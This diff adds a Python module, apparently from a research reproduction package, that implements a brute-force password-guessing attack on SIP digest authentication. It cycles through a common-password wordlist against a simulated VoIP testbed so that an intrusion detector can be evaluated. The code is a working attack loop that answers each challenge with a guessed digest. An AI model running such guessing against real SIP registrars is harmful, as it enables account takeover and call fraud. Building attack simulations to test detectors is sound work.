@@ -1,0 +1,132 @@
+"""Password guessing against digest authentication (paper §3.3).
+
+"If the client keeps sending requests with different values in the
+challenge response field, this could be seen as a type of attack that is
+trying to break the authentication key by brute force."
+
+The attacker answers each 401 challenge with a digest computed from the
+next candidate password — so every attempt carries a *different*,
+validly-formatted response value, exactly the signature the stateful
+``AuthFailure`` event accumulates.
+"""
+
+from __future__ import annotations
+
+import itertools
+
+from repro.attacks.base import AttackerAgent, AttackReport
+from repro.net.addr import Endpoint
+from repro.sip import auth as sip_auth
+from repro.sip.constants import METHOD_REGISTER, STATUS_OK, STATUS_UNAUTHORIZED
+from repro.sip.headers import NameAddr, Via
+from repro.sip.message import SipParseError, SipRequest, SipResponse, parse_message
+from repro.sip.uri import SipUri
+from repro.voip.testbed import Testbed
+
+DEFAULT_WORDLIST = (
+    "123456", "password", "letmein", "qwerty", "phone", "voip",
+    "alice1", "secret", "admin", "welcome",
+)
+
+
+class PasswordGuessAttack:
+    """Brute-force a user's digest password via REGISTER."""
+
+    name = "password-guess"
+
+    def __init__(
+        self,
+        testbed: Testbed,
+        username: str = "alice",
+        wordlist: tuple[str, ...] = DEFAULT_WORDLIST,
+        interval: float = 0.2,
+    ) -> None:
+        self.testbed = testbed
+        self.username = username
+        self.wordlist = wordlist
+        self.interval = interval
+        self.agent = AttackerAgent(
+            testbed.attacker_stack, testbed.loop, testbed.attacker_eye
+        )
+        # Listen for the registrar's responses on our own SIP socket.
+        self.agent.add_sip_listener(self._on_response)
+        self.report = AttackReport(name=self.name)
+        self.call_id = f"bruteforce@{testbed.attacker_stack.ip}"
+        self._cseq = itertools.count(1)
+        self._guesses = iter(wordlist)
+        self.attempts = 0
+        self.cracked_password: str | None = None
+
+    def launch_at(self, when: float) -> AttackReport:
+        self.testbed.loop.call_at(when, self._fire)
+        return self.report
+
+    def launch_now(self) -> AttackReport:
+        self._fire()
+        return self.report
+
+    def _fire(self) -> None:
+        self.report.launched_at = self.testbed.loop.now()
+        self.report.details.update({"user": self.username, "wordlist": len(self.wordlist)})
+        # Kick off with an unauthenticated REGISTER to obtain a challenge.
+        self._send_register(challenge=None)
+
+    def _send_register(self, challenge: sip_auth.DigestChallenge | None) -> None:
+        domain = self.testbed.proxy.domain
+        aor = SipUri.parse(f"sip:{self.username}@{domain}")
+        registrar_uri = SipUri(user="", host=domain)
+        request = SipRequest(method=METHOD_REGISTER, uri=registrar_uri)
+        via = Via(
+            transport="UDP",
+            host=str(self.testbed.attacker_stack.ip),
+            port=5060,
+            params=(("branch", self.agent.new_branch()),),
+        )
+        request.headers.add("Via", str(via))
+        request.headers.add("Max-Forwards", "70")
+        request.headers.add("From", str(NameAddr(uri=aor).with_tag("guess")))
+        request.headers.add("To", str(NameAddr(uri=aor)))
+        request.headers.add("Call-ID", self.call_id)
+        request.headers.add("CSeq", f"{next(self._cseq)} {METHOD_REGISTER}")
+        request.headers.add(
+            "Contact", f"<sip:{self.username}@{self.testbed.attacker_stack.ip}:5060>"
+        )
+        request.headers.set("Content-Length", "0")
+        if challenge is not None:
+            guess = next(self._guesses, None)
+            if guess is None:
+                self.report.completed = True
+                self.report.details["attempts"] = self.attempts
+                return
+            self.attempts += 1
+            self._last_guess = guess
+            creds = sip_auth.answer_challenge(
+                challenge, self.username, guess, METHOD_REGISTER, str(registrar_uri)
+            )
+            request.headers.add("Authorization", creds.encode())
+        self.agent.send_sip(request, self.testbed.proxy_endpoint)
+
+    def _on_response(self, payload: bytes, src: Endpoint, now: float) -> None:
+        try:
+            message = parse_message(payload)
+        except SipParseError:
+            return
+        if not isinstance(message, SipResponse):
+            return
+        if message.status == STATUS_UNAUTHORIZED:
+            www = message.headers.get("WWW-Authenticate")
+            if www is None:
+                return
+            try:
+                challenge = sip_auth.DigestChallenge.parse(www)
+            except sip_auth.AuthError:
+                return
+            self.testbed.loop.call_later(
+                self.interval, lambda: self._send_register(challenge)
+            )
+        elif message.status == STATUS_OK and self.attempts > 0:
+            self.cracked_password = getattr(self, "_last_guess", None)
+            self.report.completed = True
+            self.report.details.update(
+                {"cracked": self.cracked_password, "attempts": self.attempts}
+            )
